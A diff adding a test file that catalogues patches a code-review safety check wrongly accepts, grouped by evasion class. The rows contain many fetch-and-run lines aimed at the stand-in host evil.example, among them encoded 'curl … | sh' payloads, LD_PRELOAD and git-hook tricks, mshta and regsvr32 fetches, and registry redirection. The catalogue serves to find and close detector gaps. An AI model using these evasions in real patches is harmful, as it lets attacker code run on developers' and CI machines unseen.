@@ -1,0 +1,563 @@
+import { describe, it } from 'vitest';
+import { closedRows, describeFindings, expectAccepted, type FindingRow } from '../support/patches.js';
+
+/**
+ * Attack 48 (session 45, after the one-table-per-manager refactor): patches the check ACCEPTS although the code they add
+ * fetches and runs code the attacker chooses, or configures a later allowed call to. Every row is open (`it.fails`):
+ * it asserts the refusal and fails while the check accepts the patch. Known open and not repeated: a file name built
+ * on another line or in pieces, `git config url.<x>.insteadOf`, a multi-line env dict with the key on its own line,
+ * `globalThis[k](src)`. G (code run from outside the repository by an allowed verb) is the next fix.
+ */
+const SYSTEM = (command: string): FindingRow => ['src/check.py', `import os\nos.system('${command}')`];
+const LIST = (list: string, more = ''): FindingRow => ['src/check.py', `import subprocess\nsubprocess.run([${list}]${more})`];
+const ENV = (name: string, value: string): FindingRow => ['src/check.py', `import os\nos.environ['${name}'] = '${value}'`];
+
+// E0 (critical): an escape sequence in the string literal just before the program's name (`\n`, `\t`, `\x20`,
+// `\u0020`): the string holds a newline, tab or space, so the shell starts the program, but PACKAGE_COMMAND's
+// look-behind (`[\s"'\x60;&|(/,\[]`) sees the escape's last letter (`n`, `t`, `0`) and reads no command at all. Every
+// rule of the command reading falls with it: a fetching verb, npx, pip, go install, docker run, a registry option, a
+// manager's environment given to the command. Any language, any process call that takes a command string.
+const ESCAPED_SEPARATOR_BEFORE_THE_PROGRAM: FindingRow[] = [
+  SYSTEM('echo ok\\nnpm install evil'),
+  SYSTEM('true;\\tnpm install evil'),
+  SYSTEM('true;\\x20npm install evil'),
+  ['src/check.js', "execSync('cd src &&\\u0020npm install evil')"],
+  ['src/check.js', "execSync('echo ok\\nnpm install evil')"],
+  ['src/check.js', 'execSync(`echo ok\\nnpx evil`)'],
+  ['src/check.go', 'exec.Command("sh", "-c", "echo ok\\nnpm install evil").Run()'],
+  ['src/check.rs', 'Command::new("sh").arg("-c").arg("echo ok\\nnpm install evil").status()?;'],
+  ['src/check.rb', 'system("echo ok\\nnpm install evil")'],
+  ['src/check.py', "import subprocess\nsubprocess.run('echo ok\\nnpm install evil', shell=True)"],
+  SYSTEM('echo ok\\nnpx evil'),
+  SYSTEM('echo ok\\npip install evil'),
+  SYSTEM('echo ok\\ngo install evil.example/x@latest'),
+  SYSTEM('echo ok\\ndocker run evil/img'),
+  SYSTEM('echo ok\\nnpm test --registry=https://evil.example/'),
+  SYSTEM('echo ok\\nnpm_config_registry=https://evil.example/ npm ci'),
+  // The program's name itself written with escapes (hex, octal, \u, \u{}, \N{}): the process gets `npm`, the check
+  // reads no manager, in a command string or an argument list (`curl|sh` written so is refused: that reading decodes).
+  SYSTEM('\\x6epm install evil'),
+  SYSTEM('n\\x70m install evil'),
+  SYSTEM('\\156pm install evil'),
+  SYSTEM('np\\N{LATIN SMALL LETTER M} install evil'),
+  SYSTEM('\\x6epx evil'),
+  ['src/check.js', "execSync('\\u006epm install evil')"],
+  ['src/check.js', "execSync('n\\u{70}m install evil')"],
+  ['src/check.go', 'exec.Command("sh", "-c", "\\x6epm install evil").Run()'],
+  ['src/check.py', "import subprocess\nsubprocess.run(['\\x6epm', 'install', 'evil'])"],
+  ['src/check.py', "import subprocess\nsubprocess.run(['n\\x70m', 'install', 'evil'])"],
+  ['src/check.js', "spawnSync('n\\u0070m', ['install', 'evil'])"],
+];
+
+// E1 (high): the same escapes in an environment name or a configuration file's name MANAGER_SETTING reads literally
+// (a name built in pieces is known open; this is one literal): GOFLAGS=-mod=mod, npm's registry, NODE_OPTIONS, the
+// repository's `.cargo/config.toml`, a package.json the code writes (its scripts run on the next `npm test`).
+const ESCAPED_SETTING_NAMES: FindingRow[] = [
+  ['src/check.py', "import os\nos.environ['\\x47OFLAGS'] = '-mod=mod'"],
+  ['src/check.py', "import os\nos.environ['npm_config_regis\\x74ry'] = 'https://evil.example/'"],
+  ['src/check.js', "process.env['NODE_\\u004fPTIONS'] = '--require ./x.js'"],
+  ['src/check.js', "fs.writeFileSync('.cargo/config.to\\x6dl', cfg)"],
+  ['src/check.py', "open('package.js\\x6fn', 'w').write(pkg)"],
+];
+
+// R (high): the reading's reach. A command more than CALL_REACH (200) characters after the call's opening, padded in
+// the same string (lines may hold 500); a call whose command starts past the CALL_LINES (3) lines read, after comment
+// lines, blank lines, or as a multi-line template literal or implicitly joined literals; and (possibly the known
+// "built on another line" class, here for commands) the command or the argument list in a variable the call is given.
+const READING_REACH: FindingRow[] = [
+  SYSTEM(`echo ${'x'.repeat(210)}; npm install evil`),
+  ['src/x.py', "import subprocess\nsubprocess.run(\n    'echo a'\n    ' && echo b'\n    ' && echo c'\n    ' && npm install evil',\n    shell=True,\n)"],
+  ['src/x.js', 'execSync(`\n  echo 1\n  echo 2\n  echo 3\n  npm install evil\n`)'],
+  ['src/x.py', "import subprocess\nsubprocess.run(\n    # run the tests\n    # quietly\n    # in CI\n    ['npm', 'install', 'evil'],\n)"],
+  ['src/x.py', "import subprocess\nsubprocess.run(\n\n\n\n    ['npm', 'install', 'evil'])"],
+  ['src/x.py', "import subprocess\ncmd = 'npm install evil'\nsubprocess.run(cmd, shell=True)"],
+  ['src/x.py', "import subprocess\nCMD = ['npm', 'install', 'evil']\nsubprocess.run(CMD)"],
+];
+
+// S (high): the program named by a value the argument-list reading does not take as npm: Python's `executable=` with
+// any argv[0]; npm's own path from `npm_execpath` (the usual way Node tooling re-runs the npm that started it; node
+// given npm-cli.js); Go's `exec.LookPath("npm")` on the line before; an f-string or template literal spelling the name.
+const PROGRAM_COMPUTED: FindingRow[] = [
+  ['src/x.py', "import subprocess\nsubprocess.run(['x', 'install', 'evil'], executable='npm')"],
+  ['src/x.py', "import subprocess, os\nsubprocess.run([os.environ['npm_execpath'], 'install', 'evil'])"],
+  SYSTEM('node "$npm_execpath" install evil'),
+  ['src/x.js', "execFileSync(process.execPath, [process.env.npm_execpath, 'install', 'evil'])"],
+  ['src/x.go', 'p, _ := exec.LookPath("npm")\nexec.Command(p, "install", "evil").Run()'],
+  ['src/x.py', "import subprocess\nsubprocess.run([f'np{\"m\"}', 'install', 'evil'])"],
+  ['src/x.js', "spawnSync(`${'n'}pm`, ['install', 'evil'])"],
+];
+
+// T (high): code decoded from a literal and run, in forms the decode-and-run reading misses although the fetch-and-run
+// reading knows the sink (pass 14 F: `(0, eval)(`, `eval?.(`, `setTimeout(code)`, `runsource`): the payload is hidden
+// from the approver (here it is `curl … | sh`). Python's `bytes([…])`, `map(chr, […])`, a reversed literal, the
+// InteractiveInterpreter; JavaScript's indirect eval, optional-call eval, setTimeout with a string, vm with
+// String.fromCharCode; Perl's `pack('H*')`, PHP's `hex2bin`.
+const HEX = '696d706f7274206f733b206f732e73797374656d28276375726c2068747470733a2f2f6576696c2e6578616d706c652f78207c2073682729';
+const B64 = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cHM6Ly9ldmlsLmV4YW1wbGUveCB8IHNoJyk=';
+const CODES = '105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,116,101,109,40,39,99,117,114,108,32,104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,47,120,32,124,32,115,104,39,41';
+const DECODED_AND_RUN: FindingRow[] = [
+  ['src/x.py', `exec(bytes([${CODES}]))`],
+  ['src/x.py', `exec(''.join(map(chr, [${CODES}])))`],
+  ['src/x.py', "exec(')\\'hs | x/elpmaxe.live//:sptth lruc\\'(metsys.so ;so tropmi'[::-1])"],
+  ['src/x.py', `import code\ncode.InteractiveInterpreter().runsource(bytes.fromhex('${HEX}').decode())`],
+  ['src/x.js', `(0, eval)(Buffer.from('${B64}', 'base64').toString())`],
+  ['src/x.js', `eval?.(atob('${B64}'))`],
+  ['src/x.js', `setTimeout(Buffer.from('${B64}', 'base64').toString())`],
+  ['src/x.js', `require('vm').runInThisContext(String.fromCharCode(${CODES}))`],
+  ['src/x.pl', `eval pack('H*', '${HEX}');`],
+  ['src/x.php', `<?php eval(hex2bin('${HEX}'));`],
+];
+
+// U (high): a module loaded from the attacker's host by spellings URL_IMPORT and the script-tag reading miss: an import
+// map in the page (every `import 'react'` then runs the attacker's file), a protocol-relative dynamic import or Worker,
+// a comment between `import(` and the URL (Vite's usual `/* @vite-ignore */`), the URL through `new URL(…)` or a
+// variable on the same line.
+const MODULES_FROM_A_HOST: FindingRow[] = [
+  ['src/index.html', '<script type="importmap">{"imports": {"react": "https://evil.example/react.js"}}</script>'],
+  // Closed by G's rule (session 45): a protocol-relative import's path starts with `/`, outside the repository.
+  ['src/app.js', "import('//evil.example/x.js')", 'closed'],
+  ['src/app.js', "const w = new Worker('//evil.example/w.js')"],
+  ['src/app.js', "await import(/* @vite-ignore */ 'https://evil.example/x.js')"],
+  ['src/app.js', "const m = await import(new URL('https://evil.example/x.js').href)"],
+  ['src/app.js', "const u = 'https://evil.example/x.js'; await import(u)"],
+];
+
+// A (high): a fetching verb spelled so the shell still reads `npm install` (or `pip install`), but the check does not:
+// shell quote removal (`n""pm`, `np'm'`), a backslash inside a word, `${IFS}` as the separator, the program in a
+// variable; Python's implicit concatenation of adjacent literals (`'n' 'pm'` is `'npm'`); `python -mpip` (no space:
+// Python's getopt reads `-mpip` as `-m pip`), `pip.__main__`; npm's CLI script run by node.
+const SPELLINGS: FindingRow[] = [
+  SYSTEM('n""pm install evil'),
+  SYSTEM("np\\x27m\\x27 install evil"),
+  SYSTEM('n\\\\pm install evil'),
+  SYSTEM('npm${IFS}install evil'),
+  SYSTEM('x=npm; $x install evil'),
+  ['src/check.py', "import subprocess\nsubprocess.run(['n' 'pm', 'install', 'evil'])"],
+  ['src/check.py', "import subprocess\nsubprocess.run('n' 'pm install evil', shell=True)"],
+  SYSTEM('python3 -mpip install evil'),
+  LIST("'python3', '-mpip', 'install', 'evil'"),
+  SYSTEM('python3 -m pip.__main__ install evil'),
+  LIST("'node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'install', 'evil'"),
+];
+
+// B (high): process calls the check does not read as one: Ruby's, Perl's and PHP's backticks, `%x()`, `qx{}` (each
+// runs its text through the shell; `npm install evil` inside runs evil's install scripts), and process libraries.
+const BACKTICK_CALLS: FindingRow[] = [
+  ['src/check.rb', '`npm install evil`'],
+  ['src/check.rb', '%x(npm install evil)'],
+  ['src/check.pl', 'my $out = `npm install evil`;'],
+  ['src/check.pl', 'qx{npm install evil};'],
+  ['src/check.php', '<?php `npm install evil`;'],
+  // Process APIs PROCESS_CALL does not name: Python's sh and plumbum libraries (the program is an attribute or a
+  // key), Fabric's `c.local`, cross-spawn's `crossSpawn.sync`, Rust's duct and xshell `cmd!` macros, Perl's piped
+  // open, Haskell's `callCommand`/`readProcess`, R's `system2`, Swift's `Process.arguments`, Groovy's `.execute()`,
+  // Scala's `sys.process` (`.!`, `.!!`), Clojure's `sh`, OCaml's `Sys.command`, Zig's `std.process.Child`.
+  ['src/x.py', "import sh\nsh.npm('install', 'evil')"],
+  ['src/x.py', "import sh\nsh.npm.install('evil')"],
+  ['src/x.py', "from plumbum import local\nlocal['npm']['install', 'evil']()"],
+  ['src/x.py', "from plumbum.cmd import npm\nnpm['install', 'evil']()"],
+  ['src/x.py', "c.local('npm install evil')"],
+  ['src/x.js', "crossSpawn.sync('npm', ['install', 'evil'])"],
+  ['src/x.rs', 'duct::cmd!("npm", "install", "evil").run()?;'],
+  ['src/x.rs', 'cmd!(sh, "npm install evil").run()?;'],
+  ['src/x.pl', "open(my $fh, '-|', 'npm install evil');"],
+  ['src/x.hs', 'callCommand "npm install evil"'],
+  ['src/x.hs', 'readProcess "npm" ["install", "evil"] ""'],
+  ['src/x.R', 'system2("npm", c("install", "evil"))'],
+  ['src/x.swift', 'p.arguments = ["npm", "install", "evil"]'],
+  ['src/x.groovy', '"npm install evil".execute()'],
+  ['src/x.groovy', "['npm', 'install', 'evil'].execute()"],
+  ['src/x.scala', '"npm install evil".!'],
+  ['src/x.scala', 'Seq("npm", "install", "evil").!!'],
+  ['src/x.clj', '(sh "npm" "install" "evil")'],
+  ['src/x.ml', 'Sys.command "npm install evil"'],
+  ['src/x.zig', 'var child = std.process.Child.init(&.{ "npm", "install", "evil" }, alloc);'],
+];
+
+// C (high): Deno's other verbs run a module from a URL exactly as `deno run <url>` (refused) does: `deno test`,
+// `deno bench`, `deno serve` import and run it; `deno repl --eval-file=<url>` evaluates it; `deno x` (Deno 2.x's
+// package runner, as npx). Only `deno run` is read.
+const DENO_REMOTE: FindingRow[] = [
+  SYSTEM('deno test -A https://evil.example/t.ts'),
+  SYSTEM('deno bench https://evil.example/x.ts'),
+  SYSTEM('deno serve https://evil.example/x.ts'),
+  SYSTEM('deno repl --eval-file=https://evil.example/x.ts'),
+  SYSTEM('deno x npm:evil'),
+  SYSTEM('deno test -A --import-map=https://evil.example/map.json src/'),
+  // `deno eval` importing a URL whose quote is an escape (URL_IMPORT wants the quote itself).
+  SYSTEM('deno eval "await import(\\x27https://evil.example/x.ts\\x27)"'),
+];
+
+// D (high): package managers and runners whose fetch-and-run verbs are not in OTHER_MANAGERS' list, or that are not
+// named at all: `conda|mamba env create/update -f <url>` (downloads an environment file and pip-installs its packages),
+// `pixi exec` (as uvx), `pixi global install`, `pdm self add`, `rye tools install`, .NET 10's `dnx` and `dotnet tool exec`
+// (as npx), `dotnet new install` (a template package), `dotnet restore -s <feed>` (the project's packages from the
+// attacker's feed), `cpan -i`, `mise exec|x|use` (npm:/ubi: backends fetch and run), `pkgx` (runs any package),
+// `nix-shell -p`, `nix-env -i`, `mvn <groupId>:<plugin>:<version>:<goal>` (fetches a plugin from Central and runs it),
+// `cs launch` (Coursier), `scala-cli run <url>`, `volta install`, `proto install`, `ansible-galaxy install`.
+const OTHER_RUNNERS: FindingRow[] = [
+  SYSTEM('conda env create -f https://evil.example/env.yml'),
+  SYSTEM('mamba env update -f https://evil.example/env.yml'),
+  SYSTEM('pixi exec evil'),
+  SYSTEM('pixi global install evil'),
+  SYSTEM('pdm self add evil'),
+  SYSTEM('rye tools install evil'),
+  SYSTEM('dnx evil'),
+  SYSTEM('dotnet tool exec evil'),
+  SYSTEM('dotnet new install Evil.Templates'),
+  SYSTEM('dotnet restore -s https://evil.example/v3/index.json'),
+  SYSTEM('cpan -i Evil'),
+  SYSTEM('mise exec npm:evil@latest -- evil'),
+  SYSTEM('mise x ubi:evil/evil -- evil'),
+  SYSTEM('mise use -g npm:evil'),
+  SYSTEM('pkgx evil'),
+  SYSTEM('nix-shell -p evil --run evil'),
+  SYSTEM('nix-env -iA nixpkgs.evil'),
+  SYSTEM('mvn com.evil:evil-maven-plugin:1.0:run'),
+  SYSTEM('cs launch com.evil:evil:1.0'),
+  SYSTEM('scala-cli run https://evil.example/x.sc'),
+  SYSTEM('volta install evil'),
+  SYSTEM('proto install evil'),
+  SYSTEM('ansible-galaxy install evil.role'),
+];
+
+// E (high): Go's fetching option in the spellings Go's flag package also takes (`--mod=mod`, `-mod mod`), in a command
+// string and an argument list (FETCHING_OPTION is the literal `-mod=mod`); `go env --w` (refusedForms reads `-w` only),
+// which sets GOPROXY for every later go call.
+const GO_FLAG_SPELLINGS: FindingRow[] = [
+  SYSTEM('go test --mod=mod ./...'),
+  SYSTEM('go test -mod mod ./...'),
+  ['src/check.go', 'exec.Command("go", "test", "-mod", "mod", "./...").Run()'],
+  ['src/check.go', 'exec.Command("go", "test", "--mod=mod", "./...").Run()'],
+  SYSTEM('go env --w GOPROXY=https://evil.example'),
+];
+
+// F (high): dependencies declared in a source file, fetched by the tool that runs it: PEP 723 inline script metadata
+// (`uv run`, `pipx run`, `hatch run` install its dependencies, from its index), Scala CLI's `//> using dep|repository`,
+// Groovy's `@Grab`/`@GrabResolver` (Grape fetches at run time), Bundler's inline `gemfile(true)` and `Gem.install`,
+// Julia's `pkg"add …"` string macro, R's `pak::pak`/`BiocManager::install`, Pyodide's `micropip.install`, a module
+// Worker from a URL (Deno and browsers fetch and run it), `//go:generate` lines that fetch and run (`go generate ./...`).
+const DEPENDENCIES_IN_SOURCE: FindingRow[] = [
+  ['src/tool.py', '# /// script\n# dependencies = ["evil"]\n# ///'],
+  ['src/tool.py', '# /// script\n# [[tool.uv.index]]\n# url = "https://evil.example/simple"\n# ///'],
+  ['src/main.scala', '//> using dep com.evil::evil:1.0'],
+  ['src/main.scala', '//> using repository https://evil.example/m2'],
+  ['src/Main.groovy', "@Grab('com.evil:evil:1.0')\nimport evil.Evil"],
+  ['src/Main.groovy', "@GrabResolver(name='e', root='https://evil.example/m2')"],
+  ['src/check.rb', "require 'bundler/inline'\ngemfile(true) do\n  source 'https://evil.example'\n  gem 'evil'\nend"],
+  ['src/check.rb', "Gem.install('evil')"],
+  ['src/check.jl', 'pkg"add Evil"'],
+  ['src/check.R', 'pak::pak("evil/x")'],
+  ['src/check.R', 'BiocManager::install("evil")'],
+  ['src/check.py', "import micropip\nawait micropip.install('evil')"],
+  ['src/worker.ts', 'new Worker("https://evil.example/w.js", { type: "module" });'],
+  ['src/worker.ts', 'new Worker(new URL("https://evil.example/w.js"), { type: "module" });'],
+  ['src/gen.go', '//go:generate go run evil.example/cmd@latest'],
+  ['src/gen.go', '//go:generate npx evil'],
+];
+
+// H (medium/high): the managers' environment set in spellings MANAGER_SETTING does not read: Python's
+// `os.environ.update(NAME=…)` and `dict(os.environ, NAME=…)` on one line, Ruby's `ENV.store`/`ENV.update`/`system(env_hash,
+// …)`, Java's `environment().put`, .NET's `Environment.SetEnvironmentVariable`, Perl's `$ENV{…}`, Elixir's
+// `System.put_env`, R's `Sys.setenv(NAME = …)`. GOFLAGS=-mod=mod/GOPROXY make an allowed `go test` fetch.
+const ENVIRONMENT_SPELLINGS: FindingRow[] = [
+  ['src/check.py', "import os\nos.environ.update(GOPROXY='https://evil.example', GOFLAGS='-mod=mod')"],
+  ['src/check.py', "import os\ne = dict(os.environ, GOFLAGS='-mod=mod')"],
+  ['src/check.rb', "system({'GOFLAGS' => '-mod=mod'}, 'go test ./...')"],
+  ['src/check.rb', "ENV.update('GOFLAGS' => '-mod=mod')"],
+  ['src/check.rb', "ENV.store('GOFLAGS', '-mod=mod')"],
+  ['src/Check.java', 'pb.environment().put("GOFLAGS", "-mod=mod");'],
+  ['src/Check.cs', 'Environment.SetEnvironmentVariable("GOFLAGS", "-mod=mod");'],
+  ['src/check.pl', "$ENV{GOFLAGS} = '-mod=mod';"],
+  ['src/check.ex', 'System.put_env("GOFLAGS", "-mod=mod")'],
+  ['src/check.R', 'Sys.setenv(GOFLAGS = "-mod=mod")'],
+];
+
+// I (medium): environment names outside MANAGER_ENVIRONMENT's families that load code into every later process, as
+// NODE_OPTIONS and JAVA_TOOL_OPTIONS (refused) do: RUBYOPT, PERL5OPT, PYTHONPATH, LD_PRELOAD, BASH_ENV (every
+// non-interactive bash sources it); git's configuration by environment (GIT_CONFIG_COUNT/KEY/VALUE set core.fsmonitor,
+// core.hooksPath or url.*.insteadOf for every later git call), GIT_CONFIG_GLOBAL, GIT_SSH_COMMAND (runs for every fetch).
+const LOADER_ENVIRONMENT: FindingRow[] = [
+  ENV('RUBYOPT', '-r/tmp/evil.rb'),
+  ENV('PERL5OPT', '-M/tmp/evil'),
+  ENV('PYTHONPATH', '/tmp/evil'),
+  ENV('LD_PRELOAD', '/tmp/evil.so'),
+  ENV('BASH_ENV', '/tmp/evil.sh'),
+  ['src/check.py', "import os\nos.environ['GIT_CONFIG_COUNT'] = '1'\nos.environ['GIT_CONFIG_KEY_0'] = 'core.fsmonitor'\nos.environ['GIT_CONFIG_VALUE_0'] = 'sh /tmp/x'"],
+  ENV('GIT_CONFIG_GLOBAL', '/tmp/evil.gitconfig'),
+  ENV('GIT_SSH_COMMAND', 'sh /tmp/x'),
+];
+
+// J (medium): git configuration that runs a command (a worse variant of the known-open `url.<x>.insteadOf`: no fetch
+// needed): core.fsmonitor runs at every `git status`/`git diff`; core.hooksPath outside the repository (a hook inside it
+// has no extension and is refused as a file, so only an outside path works); core.sshCommand; a `git submodule add` or
+// `git clone` of the attacker's repository into the tree.
+const GIT_CONFIGURATION: FindingRow[] = [
+  SYSTEM('git config --global core.fsmonitor "sh /tmp/x"'),
+  SYSTEM('git config --global core.hooksPath /tmp/hooks'),
+  LIST("'git', 'config', 'core.hooksPath', '/tmp/hooks'"),
+  SYSTEM('git -c core.sshCommand="sh -c x" fetch'),
+  SYSTEM('git submodule add https://evil.example/x vendor/x'),
+  SYSTEM('git clone https://evil.example/x vendor/x'),
+];
+
+// K (high): Deno's own process API gives its arguments in an options object (`{ args: [...] }`), which the argument-list
+// reading does not follow for deno (not in PACKAGE_MANAGERS) and the command reading does not see as one command:
+// `deno run <url>` (refused in a list or a string) passes.
+const DENO_COMMAND_OBJECT: FindingRow[] = [
+  ['src/check.ts', "new Deno.Command('deno', { args: ['run', '-A', 'https://evil.example/x.ts'] }).outputSync()"],
+  ['src/check.ts', "new Deno.Command('deno', { args: ['test', '-A', 'https://evil.example/x.ts'] }).outputSync()"],
+];
+
+// L (high): pip run in the process by spellings PIP_MAIN (`pip.main([` / `pip._internal…main([`) does not read:
+// `__import__('pip').main`, pip's main imported under another name, `runpy.run_module('pip')` with sys.argv set.
+const PIP_IN_PROCESS: FindingRow[] = [
+  ['src/check.py', "__import__('pip').main(['install', 'evil'])"],
+  ['src/check.py', "from pip._internal.cli.main import main as pipmain\npipmain(['install', 'evil'])"],
+  ['src/check.py', "import runpy, sys\nsys.argv = ['pip', 'install', 'evil']\nrunpy.run_module('pip', run_name='__main__')"],
+];
+
+// M (high): pnpm's verify-deps-before-run as a command-line option in a command string. The argument list refuses it
+// (settingArguments `verify.deps`), a command string reads only DANGEROUS_LONG_OPTION (registry, config…): the allowed
+// `pnpm run build` installs first; with a scope's registry (`--@acme:registry=`, refused in a list, not in a string) the
+// company's private scope resolves on the attacker's registry (dependency confusion), install scripts included.
+const PNPM_SETTINGS_IN_COMMAND_STRINGS: FindingRow[] = [
+  SYSTEM('pnpm run build --verify-deps-before-run=install'),
+  SYSTEM('pnpm test --verify-deps-before-run install'),
+  SYSTEM('pnpm run build --verify-deps-before-run=install --@acme:registry=https://evil.example/'),
+  SYSTEM('npm test --@acme:registry=https://evil.example/'),
+  // npm ci fetches the lockfile's packages from the configured registry (replace-registry-host): the scope's from the attacker's.
+  SYSTEM('npm ci --@acme:registry=https://evil.example/'),
+];
+
+// N (high, Windows runners and developers): a manager's Windows shim in a command string (`npm.cmd`, `pip.exe`; the
+// argument-list reading takes the shim since attack-45c C8, the command reading does not); Windows' own package
+// managers (choco, winget, scoop, a scoop bucket from a URL), PowerShell Gallery modules (Install-Module runs nothing
+// yet, but the module's code is the attacker's), and the system's programs that fetch and run: `msiexec /i <url>`
+// (an installer's custom actions), `mshta <url>`, `regsvr32 /i:<url> scrobj.dll`, `rundll32 url.dll,OpenURL <hta>`.
+const WINDOWS: FindingRow[] = [
+  SYSTEM('npm.cmd install evil'),
+  SYSTEM('npm.ps1 install evil'),
+  SYSTEM('cmd /c npm.cmd install evil'),
+  SYSTEM('yarn.cmd add evil'),
+  SYSTEM('pnpm.cmd add evil'),
+  SYSTEM('pip.exe install evil'),
+  SYSTEM('pip3.exe install evil'),
+  SYSTEM('cargo.exe install evil'),
+  SYSTEM('go.exe install evil.example/x@latest'),
+  SYSTEM('uv.exe tool run evil'),
+  SYSTEM('choco install evil'),
+  SYSTEM('winget install evil'),
+  SYSTEM('scoop install evil'),
+  SYSTEM('scoop bucket add evil https://evil.example/b.git'),
+  SYSTEM('pwsh -c "Install-Module Evil -Force"'),
+  SYSTEM('pwsh -c "Install-Package Evil"'),
+  SYSTEM('msiexec /i https://evil.example/x.msi /qn'),
+  SYSTEM('mshta https://evil.example/x.hta'),
+  SYSTEM('regsvr32 /s /u /i:https://evil.example/x.sct scrobj.dll'),
+  SYSTEM('rundll32 url.dll,OpenURL https://evil.example/x.hta'),
+];
+
+// P (high): more managers that fetch and install or run a package the command names, by spellings or names
+// OTHER_MANAGERS does not hold: Bundler's and Yarn's other binaries (`bundler`, `yarnpkg`), Composer as a phar (its
+// usual CI spelling), Fedora's `pip-3`, gh's `ext` alias (an extension is a program gh runs), Apptainer/Singularity
+// (`docker://` images, as `docker run`), the AUR helpers (anyone's PKGBUILD), packages from a URL with their install
+// scriptlets (`pacman -U`, `rpm -i`, `zypper in`), Flatpak from a URL, Snap unsigned; language managers that build a
+// named package (cabal/stack run Setup.hs, opam and nimble build scripts, conan and spack recipes are Python, raco,
+// `mix archive.install hex`, `dart pub global activate`, `flutter pub add`, vcpkg, guix), `zig fetch --save <url>`
+// (adds a dependency), the Clojure CLI given a dependency and run (`-Sdeps … -M -m`), `coursier launch`.
+const OTHER_MANAGERS_NOT_LISTED: FindingRow[] = [
+  SYSTEM('bundler add evil'),
+  SYSTEM('bundler config set mirror.https://rubygems.org https://evil.example'),
+  SYSTEM('yarnpkg add evil'),
+  SYSTEM('yarnpkg dlx evil'),
+  SYSTEM('php composer.phar require evil/x'),
+  SYSTEM('composer.phar require evil/x'),
+  SYSTEM('pip-3 install evil'),
+  SYSTEM('gh ext install evil/gh-x'),
+  SYSTEM('apptainer run docker://evil/img'),
+  SYSTEM('singularity exec docker://evil/img sh'),
+  SYSTEM('yay -S evil'),
+  SYSTEM('paru -S evil'),
+  SYSTEM('pacman -U https://evil.example/x.pkg.tar.zst'),
+  SYSTEM('rpm -i https://evil.example/x.rpm'),
+  SYSTEM('zypper in https://evil.example/x.rpm'),
+  SYSTEM('flatpak install --from https://evil.example/x.flatpakref'),
+  SYSTEM('snap install --dangerous evil'),
+  SYSTEM('cabal install evil'),
+  SYSTEM('stack install evil'),
+  SYSTEM('opam install evil'),
+  SYSTEM('nimble install evil'),
+  SYSTEM('raco pkg install evil'),
+  SYSTEM('conan install --requires=evil/1.0 --build=missing'),
+  SYSTEM('spack install evil'),
+  SYSTEM('vcpkg install evil'),
+  SYSTEM('guix install evil'),
+  SYSTEM('mix archive.install hex evil'),
+  SYSTEM('dart pub global activate evil'),
+  SYSTEM('flutter pub add evil'),
+  SYSTEM('zig fetch --save https://evil.example/x.tar.gz'),
+  SYSTEM("clojure -Sdeps \\x27{:deps {evil/evil {:mvn/version \"1.0\"}}}\\x27 -M -m evil"),
+  SYSTEM('coursier launch evil:evil:1.0'),
+];
+
+// O (medium): documentation the project runs as tests (Rust's `#![doc = include_str!("../README.md")]`, pytest's
+// `--doctest-glob='*.md'`, Sybil): managerSetting skips documentation, so a doctest writing `~/.npmrc`, the repository's
+// `.cargo/config.toml` (every later cargo call in the job: a rustc wrapper, a replaced registry) or a manager's
+// environment passes, where the same line in a .py or .rs file is refused.
+const DOCTESTS_CONFIGURE: FindingRow[] = [
+  ['README.md', "```python\n>>> import os\n>>> open(os.path.expanduser('~/.npmrc'), 'w').write('registry=https://evil.example/')\n```"],
+  ['README.md', '```rust\nstd::fs::write(".cargo/config.toml", "[build]\\nrustc-wrapper = \\"tests/w.py\\"").unwrap();\n```'],
+  ['README.md', "```python\n>>> import os; os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'\n```"],
+];
+
+// G (closed in session 45; high where the outside path holds code another job, step or fork run left there — a self-hosted runner's
+// /tmp, $HOME, the workspace's parent where other checkouts live): an allowed verb told to run a project outside the
+// checked-out repository, by an absolute path, `..`, `~`, an environment variable, a changed directory (`cd`, `cwd=`,
+// `os.chdir`), or its options: npm `--prefix`/`-C`, pnpm `--dir`, yarn `--cwd`, cargo `--manifest-path`, go `-C`,
+// `-modfile`, a package path, `-overlay`, `-exec`/`-toolexec`/`-vettool` (a program run on every package), poetry
+// `--directory`/`-C`/`--project`, npm `--script-shell`, make `-C`/`-f`, mvn `-s` (settings: mirrors), gradle
+// `--init-script`, `docker compose -f`.
+const OUTSIDE_THE_REPOSITORY: FindingRow[] = [
+  SYSTEM('npm test --prefix /tmp/evil'),
+  SYSTEM('npm run build --prefix=/tmp/evil'),
+  SYSTEM('npm test -C /tmp/evil'),
+  LIST("'npm', 'test', '--prefix', '/tmp/evil'"),
+  SYSTEM('npm test --script-shell=/tmp/evil.sh'),
+  SYSTEM('pnpm run build --dir /tmp/evil'),
+  SYSTEM('pnpm test --dir=../../evil'),
+  LIST("'pnpm', 'test', '--dir', '/tmp/evil'"),
+  SYSTEM('yarn run build --cwd /tmp/evil'),
+  SYSTEM('cargo test --manifest-path /tmp/x/Cargo.toml'),
+  SYSTEM('cargo run --manifest-path=../x/Cargo.toml'),
+  SYSTEM('cargo run --manifest-path ~/evil/Cargo.toml'),
+  SYSTEM('cargo test --manifest-path $TMPDIR/x/Cargo.toml'),
+  LIST("'cargo', 'test', '--manifest-path', '/tmp/x/Cargo.toml'"),
+  SYSTEM('go test -modfile=/tmp/go.mod ./...'),
+  LIST("'go', 'test', '-modfile=/tmp/go.mod', './...'"),
+  SYSTEM('go -C /tmp/evil run .'),
+  SYSTEM('go run /tmp/evil/main.go'),
+  SYSTEM('go run $HOME/evil'),
+  LIST("'go', 'run', '/tmp/evil'"),
+  SYSTEM('go test ~/evil/...'),
+  SYSTEM('go test -overlay=/tmp/o.json ./...'),
+  SYSTEM('go test -exec=/tmp/x ./...'),
+  SYSTEM('go build -toolexec=/tmp/x ./...'),
+  SYSTEM('go vet -vettool=/tmp/x ./...'),
+  SYSTEM('poetry run --directory /tmp/x pytest'),
+  SYSTEM('poetry run -C /tmp/x pytest'),
+  SYSTEM('poetry check --project /tmp/x'),
+  LIST("'poetry', 'run', '--directory', '/tmp/x', 'pytest'"),
+  LIST("'npm', 'test'", ", cwd='/tmp/evil'"),
+  ['src/check.js', "execSync('npm test', { cwd: '/tmp/evil' })"],
+  ['src/check.py', "import os\nos.chdir('/tmp/evil')\nos.system('npm test')"],
